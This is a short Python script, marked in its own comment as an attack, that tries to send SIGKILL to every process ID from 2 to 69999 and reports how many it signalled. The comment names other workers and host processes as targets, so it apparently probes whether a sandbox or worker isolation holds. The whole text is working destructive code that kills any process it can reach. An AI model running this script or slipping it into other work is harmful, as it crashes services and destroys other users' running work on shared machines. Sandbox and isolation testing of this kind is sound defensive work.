# Attack: signal every PID that exists (other workers, host processes).
import os, signal
killed = 0
for pid in range(2, 70000):
    try:
        os.kill(pid, signal.SIGKILL)
        killed += 1
    except OSError:
        pass
print("signalled", killed)
